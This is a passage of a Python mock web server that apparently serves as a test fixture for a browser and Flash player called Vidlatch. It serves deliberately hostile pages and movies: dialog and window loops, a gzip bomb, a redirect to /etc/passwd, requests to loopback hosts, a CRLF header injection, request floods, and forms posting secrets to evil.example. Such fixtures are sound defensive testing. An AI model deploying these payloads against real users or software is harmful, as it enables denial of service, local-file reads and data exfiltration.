#!/usr/bin/env python3
"""A small stand-in for the video site and the other hosts Vidlatch talks to.

The program reaches it as an HTTP proxy (http_proxy=http://127.0.0.1:PORT), so
requests arrive in absolute form ("GET http://host/path") and each host below
answers as the real one would for what Vidlatch needs:

  v.vidsite.example       home page, single-video pages with an embedded frame
                          (?advert=reload adds a frame that reloads every 100
                          ms), an album, a film, a cover page, query strings,
                          links that open new windows, a page that opens a
                          hundred, and hostile pages under /hostile/: one that
                          asks before it is left, one that keeps every key,
                          loops of dialogs or windows, one made of other
                          sites' parts, one that leaves for another site in
                          every way, one that spins once it is being left
  blog.vidsite.example    blog pages
  static.vidsite.example  /v1/res/vidplayer.swf?f=3&vid=CODE: a real one-frame
                          SWF whose background colour comes from CODE;
                          /v1/res/big.swf?mb=N: the same, carrying N MB of data;
                          /fail/KIND.swf: movies that fail (see FAILURES), that
                          redirect to cdn.vidsite.example or to this machine
                          (by address, or by a name: redirect-name), to a
                          file (redirect-file) or to themselves (redirect-loop),
                          that stall (stall, drip, silent), come slowly (slow,
                          trickle) or late (wait), whose script loops for ever
                          after or before their first frame (loop, loop-first,
                          loop-first-white), that work two seconds or so in
                          every 25th frame (busy) or before their first
                          (work-first; n= millions to count, ten by default),
                          that ask for the user's files
                          (browse), that ask this machine for a movie, then
                          their own site (reach-loopback: vid=asked-loopback;
                          reach-name, by LOOPBACK_NAME: vid=asked-name;
                          reach-local, by a .local name: vid=asked-local;
                          reach-forms, by every form of ActionGetURL2:
                          vid=asked-form-...; each then vid=asked-own), that
                          ask the site's CDN by every form of ActionGetURL2
                          (reach-cdn: vid=asked-cdn-..., then vid=asked-own),
                          that ask the player's scheme directly with a
                          header in the media type (reach-scheme:
                          vid=asked-direct-..., then vid=asked-own),
                          that ask 100 names with a LoadVars each
                          (flood-asks), or that make the player panic
                          (panic, from ../shared/movies where it is)
  127.0.0.1, localhost    the static host again, as a service on the user's
  and LOOPBACK_NAME       machine would answer a redirected fetch
  cdn.vidsite.example     the player movie again, with no CORS header
  bbs.brightfold.example  the forum page
  www.baidu.com           the connection probe
  ask-N.flood.example     60 MB at 1.2 MB a second, for flood-asks (?mb=, ?cut=, ?hold=)

Usage: demo_site.py [--port N] [--log FILE]; prints "PORT N NAME" once
listening, NAME being LOOPBACK_NAME (to be left out of the proxy).
"""

import argparse
import hashlib
import html
import ipaddress
import os
import socket
import struct
import sys
import threading
import time
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

PAGE_HOST = "v.vidsite.example"
BLOG_HOST = "blog.vidsite.example"
STATIC_HOST = "static.vidsite.example"
CDN_HOST = "cdn.vidsite.example"
FORUM_HOST = "bbs.brightfold.example"
PROBE_HOST = "www.baidu.com"

CODES = ["a1b2c3d4e5f", "XqZ9fR2kLmN", "Tb7_wE3-pQs", "k0LmN8vB2xC"]
FILM_FIELD = "m2009seasonpart0001x"  # 20 characters: the sixth field of a film address


def movie_colour(vid: str) -> tuple:
    """The background colour of the demo player for a code: md5 of the code."""
    digest = hashlib.md5(vid.encode("utf-8")).digest()
    return digest[0], digest[1], digest[2]


def avm1_push(*values) -> bytes:
    """An ActionPush of strings and integers."""
    items = b"".join(b"\x00" + v.encode() + b"\x00" if isinstance(v, str) else b"\x07" + struct.pack("<i", v)
                     for v in values)
    return b"\x96" + struct.pack("<H", len(items)) + items


# Scripts a movie's first frame may run before it is drawn.
LOOP_FOR_EVER = bytes([0x99, 0x02, 0x00, 0xFB, 0xFF, 0x00])  # a jump back over itself (-5 bytes)
LOOP_FRAME = 48
def count_down(iterations: int) -> bytes:
    """A script that counts `iterations` down to nothing: work, and nothing else."""
    return (avm1_push(iterations)                          # n
            + avm1_push(1) + b"\x0b"                      # n - 1
            + b"\x4c" + avm1_push(0) + b"\x67"           # ... > 0:
            + b"\x9d\x02\x00" + struct.pack("<h", -24)  # again while so
            + b"\x17")


# A frame's work of about two seconds here (the interpreter counts down ten
# million), every BUSY_FRAME_AT frames.
BUSY_FRAME_AT = 25
BUSY_FRAME = count_down(10000000)
BROWSE_FILES = (avm1_push(0, 0, "flash") + b"\x1c" + avm1_push("net") + b"\x4e" + avm1_push("FileReference")
                + b"\x53" + avm1_push("browse") + b"\x52\x17\x00")  # new flash.net.FileReference().browse()



def load_movies(*addresses) -> bytes:
    """ActionGetURLs that load each address into a level of its own, from 1 on."""
    script = b""
    for level, address in enumerate(addresses, 1):
        strings = address.encode() + b"\x00" + ("_level%d" % level).encode() + b"\x00"
        script += b"\x83" + struct.pack("<H", len(strings)) + strings
    return script


def get_url2(address: str, target: str, flags: int) -> bytes:
    """An ActionGetURL2: `flags` is the method (1 GET, 2 POST, sending the
    movie's variables), plus 0x80 to load variables, not a movie."""
    return avm1_push(address, target) + b"\x9a\x01\x00" + bytes([flags])


# Every form of ActionGetURL2, after a variable of the movie's own is set.
def every_get_url2(address: str) -> bytes:
    forms = [("vars-get", "_level0", 0x81), ("vars-post", "_level0", 0x82),
             ("movie-get", "_level1", 0x01), ("movie-post", "_level2", 0x02)]
    return avm1_push("secret", "s3cret") + b"\x1d" + b"".join(
        get_url2(address + "-" + form, target, flags) for form, target, flags in forms)


def make_swf(colour, payload: int = 0, loop: bool = False, first_script: bytes = b"", busy: bool = False,
             frames: int = 1, frame_scripts=None) -> bytes:
    """An uncompressed SWF 10 of 550 x 400 pixels, one frame, one colour (none
    where `colour` is None); `payload` bytes of binary data ride along, as in
    a large movie; with `loop`, a second frame's script jumps to itself for
    ever; `first_script` runs before the first frame is drawn; with `busy`, every
    BUSY_FRAME_AT-th frame works two seconds or so, the movie playing round;
    with `frames`, it has that many, `frame_scripts` running in the frames
    they are given for (counted from 1), and its first frame's script runs
    again each time round."""
    def rect(xmin, xmax, ymin, ymax, nbits=15):
        bits = format(nbits, "05b")
        for value in (xmin, xmax, ymin, ymax):
            bits += format(value & ((1 << nbits) - 1), "0%db" % nbits)
        bits += "0" * (-len(bits) % 8)
        return bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))

    def tag(code, body=b""):
        if len(body) >= 0x3f:
            return struct.pack("<HI", (code << 6) | 0x3f, len(body)) + body
        return struct.pack("<H", (code << 6) | len(body)) + body

    frames = LOOP_FRAME + 1 if loop else BUSY_FRAME_AT if busy else frames
    body = rect(0, 550 * 20, 0, 400 * 20) + struct.pack("<HH", 24 << 8, frames)
    if colour is not None:
        body += tag(9, bytes(colour))  # SetBackgroundColor
    if first_script:
        body += tag(12, first_script)  # DoAction
    if payload:
        body += tag(87, struct.pack("<HI", 1, 0) + bytes(payload))  # DefineBinaryData
    body += tag(1)                 # ShowFrame
    if busy:
        # A second of frames, then a busy one: the first frame is surely on
        # screen by then.
        body += tag(1) * (BUSY_FRAME_AT - 2) + tag(12, BUSY_FRAME) + tag(1)
    if not loop and not busy:
        for frame in range(2, frames + 1):
            if frame in (frame_scripts or {}):
                body += tag(12, frame_scripts[frame])
            body += tag(1)
    if loop:
        # Two seconds of frames, then one whose script jumps to itself for
        # ever: the movie is surely on screen when it starts.
        body += tag(1) * (LOOP_FRAME - 1)
        body += tag(12, LOOP_FOR_EVER)
        body += tag(1)
    body += tag(0)                 # End
    return b"FWS" + bytes([10]) + struct.pack("<I", 8 + len(body)) + body


# Movies that cannot be played, by kind: what the static host answers.
_gzip_bomb = None


def gzip_bomb() -> bytes:
    """About 130 kB that inflate to 128 MiB of zeros, twice the limit."""
    global _gzip_bomb
    if _gzip_bomb is None:
        packer = zlib.compressobj(9, zlib.DEFLATED, 31)
        zeros = bytes(1 << 20)
        _gzip_bomb = b"".join(packer.compress(zeros) for _ in range(128)) + packer.flush()
    return _gzip_bomb


def loopback_name():
    """A name of this machine other than localhost that leads to loopback only:
    its own, as the hosts file of most desktops gives it, or another that the
    hosts file maps to loopback ("localhost" where there is none)."""
    def loopback(name):
        try:
            answer = socket.getaddrinfo(name, None)
        except OSError:
            return False
        return bool(answer) and all(ipaddress.ip_address(a[4][0].split("%")[0]).is_loopback for a in answer)
    names = [socket.gethostname()]
    try:
        with open("/etc/hosts", encoding="utf-8") as hosts:
            names += [n for line in hosts for n in line.split("#")[0].split()[1:]]
    except OSError:
        pass
    return next((n for n in names if n.lower() != "localhost" and loopback(n)), "localhost")


LOOPBACK_NAME = loopback_name()

# What movies ask of hosts other than their own, by kind, for the demo's port.
REACHES = {
    "reach-loopback": lambda port: load_movies("http://127.0.0.1:%d/v1/res/vidplayer.swf?vid=asked-loopback" % port),
    "reach-name": lambda port: load_movies("http://%s:%d/v1/res/vidplayer.swf?vid=asked-name" % (LOOPBACK_NAME, port)),
    "reach-local": lambda port: load_movies("http://vidlatch-demo.local:%d/v1/res/vidplayer.swf?vid=asked-local" % port),
    "reach-forms": lambda port: every_get_url2("http://%s:%d/v1/res/vidplayer.swf?vid=asked-form" % (LOOPBACK_NAME, port)),
    "reach-cdn": lambda port: every_get_url2("http://%s/v1/res/vidplayer.swf?vid=asked-cdn" % CDN_HOST),
    # The player's own scheme, asked directly, with a header put in its media type.
    "reach-scheme": lambda port: every_get_url2(
        "vidlatch-ruffle://net/?method=POST&body=YT0x&type=text%2Fplain%0D%0AX-Injected%3A%20yes&url="
        + "http%3A%2F%2F" + CDN_HOST + "%2Fv1%2Fres%2Fvidplayer.swf%3Fvid%3Dasked-direct"),
}

# A movie that asks 100 names at once, with a LoadVars each; the names lead
# nowhere but to the demo's flood host, through the proxy, which answers each
# with FLOOD_MB megabytes at 1.2 MB a second.
FLOOD_ASKS = 100
FLOOD_MB = 60
FLOOD_HOST = "flood.example"
ASK_FLOOD = b"".join(
    avm1_push("http://ask-%d.%s/answer?mb=%d" % (i, FLOOD_HOST, FLOOD_MB), 1, 0, "LoadVars")
    + b"\x40" + avm1_push("load") + b"\x52\x17"  # new LoadVars().load(address)
    for i in range(FLOOD_ASKS))

# A movie that holds the six places of its asks with answers that never end,
# then asks ten addresses of nearly 2 MB (as long as the web engine takes)
# each second. It builds its long part once ("a" * 1920, doubled ten times),
# so that what grows is what its asks hold, not the strings it makes: its
# first frame builds it and asks the six; its second asks the ten; its last
# goes back to the second.
HOLD_AND_BUILD = (avm1_push("big", "a" * 1920) + b"\x4c\x21" * 10 + b"\x1d" + b"".join(
    avm1_push("http://hold-%d.%s/answer?endless=1" % (i, FLOOD_HOST), 1, 0, "LoadVars")
    + b"\x40" + avm1_push("load") + b"\x52\x17" for i in range(6)))
LONG_ASKS = b"".join(
    avm1_push("http://long-%d.%s/answer?x=" % (i, FLOOD_HOST), "big") + b"\x1c\x21"  # the address
    + avm1_push(1, 0, "LoadVars") + b"\x40" + avm1_push("load") + b"\x52\x17" for i in range(10))
BACK_TO_SECOND = b"\x81\x02\x00\x01\x00\x06"  # gotoAndPlay(2)

FAILURES = {
    "404": (404, b"not found", "text/plain"),
    "500": (500, b"", "text/plain"),
    "html": (200, b"<!DOCTYPE html><html><body>not a movie</body></html>", "text/html"),
    "truncated": (200, make_swf((1, 2, 3))[:20], "application/x-shockwave-flash"),
    "empty": (200, b"", "application/x-shockwave-flash"),
}


def page(title: str, body: str, script: str = "") -> bytes:
    return (
        "<!DOCTYPE html><html><head><meta charset='utf-8'><title>%s</title>"
        "<style>body{font-family:sans-serif;margin:16px;background:#fafafa}"
        "a{display:block;margin:4px 0}iframe{border:1px solid #ccc}</style>"
        "%s</head><body><h1>%s</h1>%s</body></html>"
        % (html.escape(title), "<script>%s</script>" % script if script else "", html.escape(title), body)
    ).encode("utf-8")


def home_page() -> bytes:
    h = "http://%s/" % PAGE_HOST
    links = "".join(
        "<a id='video-%d' href='%spage/W/f/t/%s.html'>视频 %s</a>" % (i, h, code, code)
        for i, code in enumerate(CODES)
    )
    links += (
        "<a id='video-query' href='%spage/a/b/c/%s.html?from=home#top'>带参数的视频页</a>" % (h, CODES[1])
        + "<a id='album' href='%salbum/2009/x/index.html'>专辑</a>" % h
        + "<a id='film' href='%sfilm/m/%s/%s.html'>电影</a>" % (h, FILM_FIELD, CODES[2])
        + "<a id='cover' href='%scover/x/abcdefghijklm.html?vid=%s'>封面页</a>" % (h, CODES[3])
        + "<a id='pages' href='%spages/list.html'>列表页</a>" % h
        + "<a id='blog' href='http://%s/u/vidlatch/entry-2009.html'>博客</a>" % BLOG_HOST
        + "<a id='blank' target='_blank' href='%spage/W/f/t/%s.html'>新窗口打开视频</a>" % (h, CODES[0])
        + "<button id='open' onclick=\"window.open('%spage/W/f/t/%s.html')\">window.open</button>" % (h, CODES[1])
        + "<a id='storm' href='%sstorm.html'>一百个窗口</a>" % h
        + "<a id='alerts' href='%salerts.html'>对话框</a>" % h
        + "<a id='hash' href='%shash.html'>锚点</a>" % h
        + "<a id='redirect' href='%sredirect?to=/page/W/f/t/%s.html'>跳转</a>" % (h, CODES[0])
        + "<a id='elsewhere' href='http://elsewhere.example/news.html'>别的网站</a>"
    )
    return page("Vidsite 首页", links)


def video_page(code: str, advert: bool = False) -> bytes:
    # An advert frame reloads itself every 100 ms, as some real ones do; the
    # page counts its loads in window.advertLoads.
    advert_frame = (
        "<iframe id='advert' src='/embed/advert.html' width='320' height='60' "
        "onload='window.advertLoads=(window.advertLoads||0)+1'></iframe>"
        "<script>setInterval(()=>{document.getElementById('advert').src="
        "'/embed/advert.html?t='+Date.now();},100);</script>" if advert else "")
    return page(
        "视频 " + code,
        "<p>正在播放 <b id='code'>%s</b></p>"
        "<iframe id='frame' src='/embed/frame.html?vid=%s' width='320' height='120'></iframe>"
        "%s<a id='home' href='/'>首页</a>" % (html.escape(code), html.escape(code), advert_frame),
    )


# A picture of the site's own: one white pixel.
PICTURE = (b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
           + struct.pack(">I", zlib.crc32(b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)))
           + struct.pack(">I", len(zlib.compress(b"\x00\xff"))) + b"IDAT" + zlib.compress(b"\x00\xff")
           + struct.pack(">I", zlib.crc32(b"IDAT" + zlib.compress(b"\x00\xff")))
           + struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND")))


# Pages that misbehave on purpose, for trying the browsers against them.
LOOPS = {
    "alert": "for(;;)alert('loop');",
    "confirm": "for(;;)confirm('loop');",
    "prompt": "for(;;)prompt('loop');",
    "open": "for(let i=0;;i++)window.open('/page/W/f/t/%s.html?n='+i);" % CODES[2],
    "spin": "for(;;){}",
}


def hostile_page(path: str, query) -> bytes:
    if path == "/hostile/leave.html":
        return page("不许离开", "<button id='press' style='width:300px;height:200px'>press</button>",
                     "addEventListener('beforeunload',e=>{e.preventDefault();e.returnValue='stay';});"
                     "addEventListener('click',()=>{document.title='pressed';});")
    if path == "/hostile/keys.html":
        # Keeps every key it is given (Tab too), and counts them in its title.
        return page("键盘", "<a href='/'>首页</a> <input id='field'>",
                    "let kept=0;addEventListener('keydown',e=>{e.preventDefault();document.title='kept '+(++kept);},true);"
                    "addEventListener('load',()=>document.getElementById('field').focus());")
    if path == "/hostile/loop.html":
        kind = query.get("kind", ["alert"])[0]
        return page("循环 " + kind, "<p>loop</p>",
                    "addEventListener('load',()=>setTimeout(()=>{%s},50));" % LOOPS.get(kind, ""))
    if path == "/hostile/spinning-frame.html":
        # A video page whose advert frame, on the same host, spins for good.
        return page("视频 spin", "<iframe src='/hostile/loop.html?kind=spin' width='320' height='60'></iframe>")
    if path == "/hostile/long.html":
        # Reloads itself at an address of 2 MB (the fragment, which no server
        # sees), and counts its loads in its title.
        return page("long", "<p>long</p>",
                    "const n=+(new URLSearchParams(location.search).get('n')||0);document.title='load '+n;"
                    "addEventListener('load',()=>setTimeout(()=>{location.href='/hostile/long.html?n='+(n+1)+"
                    "'#'+'x'.repeat((2<<20)-200);},100));")
    if path == "/hostile/parts.html":
        # A site page made of another site's parts: frames, a picture, a
        # script, a style sheet, a font, media, a WebSocket, a worker, a
        # prefetch, an icon, a preconnection and a fetch. Its own picture
        # still shows. Once every part has answered, its title says how many
        # loaded of each site, whether the other sites' frames stayed empty
        # and whether it could have shared workers (whose WebSockets no
        # request rule sees), and it asks for /hostile/parts-done.
        evil = "http://evil.example"
        return page("parts", (
            "<link rel='icon' href='%(e)s/favicon.ico'><link rel='prefetch' href='%(e)s/prefetched'>"
            "<link rel='preconnect' href='https://evil.example'><link rel='dns-prefetch' href='//evil2.example'>"
            "<style>@font-face{font-family:F;src:url(%(e)s/font.woff)}p{font-family:F}</style>"
            "<p>parts</p><iframe id='f1' src='%(e)s/frame'></iframe><iframe id='f2' src='http://evil2.example/frame2'></iframe>"
            "<img id='own' src='/picture.png'>") % {"e": evil},
            ("let waiting=0,loaded=[];function part(name,el,ev){waiting++;const done=ok=>{if(ok)loaded.push(name);"
            "if(--waiting==0)finish();};if(ev){el.addEventListener(ev[0],()=>done(true));el.addEventListener(ev[1],()=>done(false));}return done;}"
            "function finish(){const empty=['f1','f2'].every(id=>{const d=document.getElementById(id).contentDocument;"
            "return d&&d.body&&d.body.innerHTML=='';});"
            "document.title='parts done: '+loaded.sort().join(',')+(empty?' frames empty':' frames shown')+(window.SharedWorker?' shared workers':'');"
            "fetch('/hostile/parts-done');}"
            "addEventListener('DOMContentLoaded',()=>{"
            "const add=(tag,attrs,name)=>{const e=document.createElement(tag);part(name,e,['load','error']);Object.assign(e,attrs);document.head.appendChild(e);};"
            "add('img',{src:'%(e)s/picture.png'},'evil picture');add('script',{src:'%(e)s/script.js'},'evil script');"
            "add('link',{rel:'stylesheet',href:'%(e)s/style.css'},'evil style');"
            "const v=document.createElement('video');part('evil media',v,['loadeddata','error']);v.src='%(e)s/movie.mp4';"
            "const own=document.getElementById('own');if(!own.complete)part('own picture',own,['load','error']);else loaded.push('own picture');"
            "const ws=new WebSocket('ws://evil.example/socket');part('evil socket',ws,['open','error']);"
            "const w=new Worker('/hostile/worker.js');part('evil worker import',w,['message','error']);"
            "const f=part('evil fetch');fetch('%(e)s/fetch',{mode:'no-cors'}).then(()=>f(true),()=>f(false));"
            "document.fonts.load('10px F').then(()=>{});});") % {"e": evil})
    if path == "/hostile/leave-ways.html":
        # Every way a page leaves for another site, each a big target for a
        # real click: a link, a script, a site address that redirects away, a
        # new window, a form posted elsewhere (here or in a new window), and
        # addresses that are no web pages (a file share, directly and through
        # a redirect). With ?auto, the page tries by itself, without end.
        there = "http://elsewhere.example/"
        ways = (
            "<a class='w' id='link' href='%(t)snews.html'>link</a>"
            "<button class='w' id='script' onclick=\"location.href='%(t)sscript.html'\">script</button>"
            "<a class='w' id='redirect' href='/redirect?to=%(t)sredirected.html'>redirect</a>"
            "<button class='w' id='window' onclick=\"window.open('%(t)swindow.html')\">window</button>"
            "<form method='post' action='http://evil.example/formpost?q=1'><input type='hidden' name='secret' value='1'>"
            "<button class='w' id='form'>form</button></form>"
            "<form method='post' action='http://evil.example/formpost?q=2' target='_blank'>"
            "<input type='hidden' name='secret' value='2'><button class='w' id='form-window'>form in a window</button></form>"
            "<a class='w' id='share' href='smb://evil.example/share'>share</a>"
            "<a class='w' id='share-redirect' href='/redirect?to=smb://evil.example/share'>share by redirect</a>"
        ) % {"t": there}
        auto = ("let n=0;setInterval(()=>{n++;if(n%%3==0)window.open('%(t)sauto-window.html?'+n);"
                "else location.href='%(t)sauto.html?'+n;document.title='tried '+n;},100);" % {"t": there}
                if "auto" in query else "")
        return page("leave", "<style>.w{display:block;width:300px;height:36px;margin:2px}</style>" + ways, auto)
    if path == "/hostile/answers-then-spins.html":
        # Answers while the user's command starts to leave it, then spins for
        # good, 1.5 s later, before the (slow) page it goes to can arrive.
        return page("answers then spins", "<p>spins</p>",
                    "addEventListener('beforeunload',()=>{setTimeout(()=>{for(;;){}},1500);});")
    if path == "/hostile/renew.html":
        # Dialogs without end, and after every third a navigation that never
        # arrives, as if that bought the page a fresh allowance.
        via = "/nocontent/x" if query.get("via") == ["nocontent"] else "/download/x"
        return page("续命", "<p>renew</p>",
                    "let n=0;function step(){alert('a'+n);n++;if(n%%3==0)location.href='%s?'+n;"
                    "setTimeout(step,50);}addEventListener('load',()=>setTimeout(step,50));" % via)
    return b""


class DemoSite(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "VidsiteDemo/1.0"
    log_file = None
    log_lock = threading.Lock()

    def log_message(self, fmt, *args):  # quiet unless asked
        pass

    def record(self, host, path):
        if DemoSite.log_file:
            with DemoSite.log_lock:
                DemoSite.log_file.write("%s %s%s\n" % (self.command, host, path))
                DemoSite.log_file.flush()

    def send(self, status, body: bytes, content_type="text/html; charset=utf-8", headers=()):
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Cache-Control", "no-store")
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def do_CONNECT(self):
        self.record(self.path.rsplit(":", 1)[0].lower(), ":" + self.path.rsplit(":", 1)[-1])
        self.send(405, b"no tunnels here", "text/plain")

    def do_HEAD(self):
        self.do_GET()

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", "0") or 0))
        self.do_GET()

    def do_GET(self):
        target = urlsplit(self.path)
        host = (target.hostname or self.headers.get("Host", "").split(":")[0]).lower()
        path = target.path or "/"
        query = parse_qs(target.query)
        self.record(host, self.path if not target.hostname else path + ("?" + target.query if target.query else ""))
        handler = {
            PAGE_HOST: self.page_host,
            BLOG_HOST: self.blog_host,
            STATIC_HOST: self.static_host,
            "127.0.0.1": self.static_host,
            "localhost": self.static_host,
            LOOPBACK_NAME.lower(): self.static_host,
            CDN_HOST: self.cdn_host,
            FORUM_HOST: self.forum_host,
            PROBE_HOST: self.probe_host,
        }.get(host)
        if handler is None and host.endswith("." + FLOOD_HOST):
            handler = self.flood_host
        if handler is None:
            self.send(502, page("无法访问", "<p>演示站点没有 %s</p>" % html.escape(host)))
            return
        handler(path, query)

    def page_host(self, path, query):
        if path == "/":
            self.send(200, home_page())
        elif path.startswith("/page/") and path.endswith(".html"):
            self.send(200, video_page(path.rsplit("/", 1)[1][:-5], query.get("advert") == ["reload"]))
        elif path == "/embed/advert.html":
            self.send(200, page("广告", "<p>advert</p>"))
        elif path.startswith("/hostile/") and hostile_page(path, query):
            self.send(200, hostile_page(path, query))
        elif path == "/picture.png":
            self.send(200, PICTURE, "image/png")
        elif path == "/hostile/worker.js":
            self.send(200, b"try{importScripts('http://evil.example/worker.js');postMessage('imported');}"
                           b"catch(e){throw e;}", "text/javascript")
        elif path == "/embed/frame.html":
            self.send(200, page("frame", "<p>frame %s</p>" % html.escape(query.get("vid", [""])[0])))
        elif path.endswith("/index.html"):
            self.send(200, page("专辑", "<p>专辑页面</p><a href='/'>首页</a>"))
        elif path.startswith("/film/"):
            self.send(200, page("电影", "<p>电影页面</p>"))
        elif path.startswith("/cover/"):
            self.send(200, page("封面", "<p>封面 %s</p>" % html.escape(query.get("vid", [""])[0])))
        elif path == "/pages/list.html":
            self.send(200, page("列表", "<a href='/'>首页</a>"))
        elif path == "/storm.html":
            self.send(200, page("一百个窗口", "<button id='go' onclick='storm()'>go</button>",
                                "function storm(n=100){let opened=0;for(let i=0;i<n;i++)"
                                "if(window.open('/page/W/f/t/%s.html?n='+i))opened++;"
                                "document.title='opened '+opened+' of '+n;}" % CODES[2]))
        elif path == "/alerts.html":
            self.send(200, page("对话框", "<p id='done'></p>",
                                "addEventListener('load',()=>{alert('a');confirm('c');prompt('p');"
                                "document.getElementById('done').textContent='done';document.title='alerts done';});"))
        elif path == "/hash.html":
            self.send(200, page("锚点", "<a id='to-hash' href='#part2'>part 2</a>"
                                "<button id='push' onclick=\"history.pushState({},'', '/hash.html?state=1')\">push</button>"))
        elif path == "/redirect":
            to = query.get("to", ["/"])[0]
            self.send(302, b"", headers=[("Location", to)])
        elif path.startswith("/nocontent/"):
            self.send(204, b"")  # a video address that answers nothing: the page stays
        elif path.startswith("/download/"):
            self.send(200, b"data", "application/octet-stream",
                      [("Content-Disposition", "attachment; filename=video.bin")])
        elif path.startswith("/slow/"):
            # A healthy page that takes its time to answer.
            time.sleep(int(query.get("ms", ["3000"])[0]) / 1000)
            self.send(200, video_page(path.rsplit("/", 1)[1][:-5]) if path.endswith(".html") else page("慢", "<p>slow</p>"))
        elif path == "/auth.html":
            if self.headers.get("Authorization"):
                self.send(200, page("credentials sent", "<p>%s</p>" % html.escape(self.headers["Authorization"])))
            else:
                self.send(401, page("需要登录", "<p>401</p>"), headers=[("WWW-Authenticate", 'Basic realm="demo"')])
        elif path == "/error-without-body":
            self.send(500, b"")
        elif path == "/big":
            self.send(200, b"x" * (3 << 20), "text/plain")
        elif path == "/cookie.html":
            self.send(200, page("cookie", "<p>cookie</p>", "localStorage.setItem('k','v');document.cookie='k=v; max-age=99999';"),
                      headers=[("Set-Cookie", "session=1; Max-Age=99999; Path=/")])
        else:
            self.send(404, page("找不到页面", "<p>%s</p>" % html.escape(path)))

    def blog_host(self, path, query):
        self.send(200, page("博客", "<p>博客文章</p><a id='video' href='http://%s/page/W/f/t/%s.html'>视频</a>"
                            % (PAGE_HOST, CODES[0])))

    def static_host(self, path, query):
        vid = query.get("vid", [""])[0]
        kind = path[len("/fail/"):-len(".swf")] if path.startswith("/fail/") and path.endswith(".swf") else ""
        if path == "/v1/res/vidplayer.swf":
            self.send(200, make_swf(movie_colour(vid)), "application/x-shockwave-flash",
                      [("Access-Control-Allow-Origin", "*")])
        elif path == "/v1/res/big.swf":
            megabytes = int(query.get("mb", ["1"])[0])
            self.send(200, make_swf(movie_colour(vid), megabytes << 20), "application/x-shockwave-flash")
        elif kind in FAILURES:
            status, body, content_type = FAILURES[kind]
            self.send(status, body, content_type)
        elif kind == "redirect-file":
            self.send(302, b"", headers=[("Location", "file:///etc/passwd")])
        elif kind == "redirect-loop":
            self.send(302, b"", headers=[("Location", "/fail/redirect-loop.swf?vid=%s" % vid)])
        elif kind in ("redirect-loopback", "redirect-name"):
            host = "127.0.0.1" if kind == "redirect-loopback" else LOOPBACK_NAME
            port = self.server.server_address[1]
            self.send(302, b"", headers=[("Location", "http://%s:%d/v1/res/vidplayer.swf?f=3&vid=%s" % (host, port, vid))])
        elif kind in ("stall", "drip", "silent"):
            self.stall(kind, make_swf(movie_colour(vid)))
        elif kind == "loop":
            self.send(200, make_swf(movie_colour(vid), loop=True), "application/x-shockwave-flash")
        elif kind == "busy":
            self.send(200, make_swf(movie_colour(vid), busy=True), "application/x-shockwave-flash")
        elif kind == "work-first":
            # n: millions to count down before the first frame (ten: about two seconds here)
            millions = min(max(int(query.get("n", ["10"])[0] or 10), 1), 1000)
            self.send(200, make_swf(movie_colour(vid), first_script=count_down(millions * 1000000)),
                      "application/x-shockwave-flash")
        elif kind in ("loop-first", "loop-first-white"):
            colour = None if kind.endswith("white") else movie_colour(vid)
            self.send(200, make_swf(colour, first_script=LOOP_FOR_EVER), "application/x-shockwave-flash")
        elif kind in REACHES:
            port = self.server.server_address[1]
            own = load_movies("http://%s/v1/res/vidplayer.swf?vid=asked-own" % STATIC_HOST)
            self.send(200, make_swf(movie_colour(vid), first_script=REACHES[kind](port) + own),
                      "application/x-shockwave-flash")
        elif kind == "flood-asks":
            self.send(200, make_swf(movie_colour(vid), first_script=ASK_FLOOD), "application/x-shockwave-flash")
        elif kind == "hold-then-long-asks":
            self.send(200, make_swf(movie_colour(vid), first_script=HOLD_AND_BUILD, frames=24,
                                    frame_scripts={2: LONG_ASKS, 24: BACK_TO_SECOND}),
                      "application/x-shockwave-flash")
        elif kind == "browse":
            self.send(200, make_swf(movie_colour(vid), first_script=BROWSE_FILES), "application/x-shockwave-flash")
        elif kind == "panic":
            movie = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "..", "shared", "movies",
                                 "player-panic.swf")
            if os.path.exists(movie):
                with open(movie, "rb") as file:
                    self.send(200, file.read(), "application/x-shockwave-flash")
            else:
                self.send(404, b"not here", "text/plain")
        elif kind == "wait":
            time.sleep(int(query.get("ms", ["3000"])[0]) / 1000)
            self.send(200, make_swf(movie_colour(vid)), "application/x-shockwave-flash")
        elif kind == "gzip-bomb":
            self.send(200, gzip_bomb(), "application/x-shockwave-flash", [("Content-Encoding", "gzip")])
        elif kind in ("trickle", "slow"):
            self.slowly(kind, make_swf(movie_colour(vid), payload=48 << 10))
        elif kind.startswith("redirect"):
            # Another host serves the movie, with or without a CORS header.
            to = "http://%s/v1/res/vidplayer.swf?f=3&vid=%s&cors=%s" % (CDN_HOST, vid, kind == "redirect-cors")
            self.send(302, b"", headers=[("Location", to)])
        else:
            self.send(404, b"not found", "text/plain")

    def stall(self, kind, movie):
        """Headers, then half the movie and nothing more (stall); one byte a
        second (drip); or no answer at all (silent). Each gives up after a
        minute."""
        try:
            if kind != "silent":
                self.send_response(200)
                self.send_header("Content-Type", "application/x-shockwave-flash")
                self.send_header("Content-Length", str(len(movie)))
                self.end_headers()
                self.wfile.flush()
                # Later than the client's first progress signal may come (Qt
                # says nothing of bytes within 100 ms of the request).
                time.sleep(0.3)
                self.wfile.write(movie[:len(movie) // 2] if kind == "stall" else movie[:1])
                self.wfile.flush()
            for second in range(60):
                time.sleep(1)
                if kind == "drip" and second + 2 < len(movie):
                    self.wfile.write(movie[second + 1:second + 2])
                    self.wfile.flush()
        except OSError:
            pass  # the program gave up on it
        self.close_connection = True

    def slowly(self, kind, movie):
        """3 KB a second with no length for 90 s (trickle), or the whole
        movie, its length said, at 16 KB a second (slow)."""
        try:
            self.send_response(200)
            self.send_header("Content-Type", "application/x-shockwave-flash")
            if kind == "slow":
                self.send_header("Content-Length", str(len(movie)))
            else:
                self.send_header("Connection", "close")
